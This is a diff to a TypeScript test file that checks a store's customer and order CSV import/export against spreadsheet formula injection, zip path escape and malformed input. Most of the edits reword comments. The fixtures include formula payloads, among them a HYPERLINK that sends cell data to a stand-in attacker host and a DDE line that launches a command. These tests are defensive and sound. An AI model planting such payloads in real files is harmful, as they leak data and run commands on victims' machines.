@@ -18,7 +18,7 @@ const [store, other] = stores;
 if (!store || !other) throw new Error("no store");
 const folder = mkdtempSync(path.join(os.tmpdir(), "dossier-sheets-"));
 
-/** What Excel and LibreOffice run, or take for the beginning of a cell or a row of its own. */
+/** What Excel and LibreOffice run, or read as the beginning of a cell or row. */
 const formulas = [
   '=HYPERLINK("http://evil.example/?"&A1,"open")',
   "=cmd|' /C calc'!A0",
@@ -54,7 +54,7 @@ function runImport(slug: string, kind: "customers" | "orders", content: string |
 }
 
 const customerColumns = ["Customer ID", "First Name", "Last Name", "Email", "Accepts Email Marketing"];
-/** @param rows id, names, e-mail, telephone, note, tags. */
+/** @param rows id, names, email, phone, note, tags. */
 const customers = (rows: string[][]) =>
   stringify([
     [...customerColumns, "Phone", "Note", "Tags"],
@@ -73,7 +73,7 @@ const order = (cells: Partial<Record<string, string>>) => {
   return orderColumns.map((column) => known[column] ?? "");
 };
 
-test("no cell of an export is a formula, and no name in its zip leads out of a folder", async () => {
+test("no cell of an export is a formula, and no name in its zip leaves its folder", async () => {
   const reader = ["1", ...formulas.slice(0, 2), "reader@mail.example", "", formulas.join(" | "), "=1+1"];
   const imported = runImport(store.slug, "customers", customers([reader]));
   expect(imported.output).toContain("1 added");
@@ -105,11 +105,11 @@ test("no cell of an export is a formula, and no name in its zip leads out of a f
   for (const entry of entries.filter(({ filename }) => filename.endsWith(".csv"))) {
     if (!("getData" in entry) || !entry.getData) throw new Error(`${entry.filename} holds nothing`);
     const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await entry.getData(new Uint8ArrayWriter()));
-    // As a spreadsheet reads it that divides at commas, at semicolons or at tabs.
+    // As a spreadsheet reads it that splits at commas, semicolons or tabs.
     for (const delimiter of [",", ";", "\t"]) {
       const rows = parse(text, { bom: true, delimiter, relax_quotes: true, relax_column_count: true });
       for (const cell of rows.flat() as string[]) {
-        // Where the file is divided at the wrong sign, a quote at a cell's beginning may be one that a spreadsheet takes off.
+        // Split at the wrong character, a quote at a cell's beginning may be one that a spreadsheet removes.
         const shown = delimiter === "," ? cell : cell.replace(/^"/, "");
         expect(shown, `${entry.filename} at ${delimiter}`).not.toMatch(/^(?:[=+@\t\r＝＋－＠]|-(?!\d+(?:\.\d+)?$))/);
         if (cell.startsWith("'")) defused++;
@@ -123,8 +123,8 @@ test.each([
   ["cut off in a cell", () => `${customers([["1", "Ann", "Ames", "a@mail.example", "", "x", ""]]).slice(0, -5)}"open`],
   ["of a cell of nine megabytes", () => customers([["1", "x".repeat(9_000_000), "", "a@mail.example", "", "", ""]])],
   ["of NUL", () => customers([["1", "A\u0000nn", "", "a@mail.example", "", "\u0000", ""]])],
-  ["of another encoding", () => Buffer.from(customers([["1", "Ann", "Amés", "a@mail.example", "", "", ""]]), "latin1")],
-  ["of bytes without order", () => Buffer.from(Array.from({ length: 200_000 }, (_, index) => (index * 7919) % 251))],
+  ["in another encoding", () => Buffer.from(customers([["1", "Ann", "Amés", "a@mail.example", "", "", ""]]), "latin1")],
+  ["of random bytes", () => Buffer.from(Array.from({ length: 200_000 }, (_, index) => (index * 7919) % 251))],
   [
     "of columns that are prototypes",
     () =>
@@ -132,7 +132,7 @@ test.each([
   ],
   ["of a million quotes", () => `${customers([])}${'"'.repeat(1_000_000)}`],
 ])(
-  "a file %s is read or refused with a sentence, never with a stack",
+  "a file %s is read or refused with a message, never with a stack trace",
   async (_, content) => {
     const { output, milliseconds } = runImport(other.slug, "customers", content());
     expect(output).not.toMatch(/\n\s+at |Error:|node:internal/);
@@ -142,7 +142,7 @@ test.each([
   120_000,
 );
 
-test("a file with a mark of its bytes' order, and an order of ten thousand lines, is read whole", async () => {
+test("a file with a byte order mark and an order of ten thousand lines is read completely", async () => {
   // As Shopify writes it: an order's later lines repeat its name and leave the order's own columns blank.
   const blank = Object.fromEntries(["Id", "Currency", "Total", "Subtotal", "Created at"].map((column) => [column, ""]));
   const lines = Array.from({ length: 10_000 }, (_, index) =>
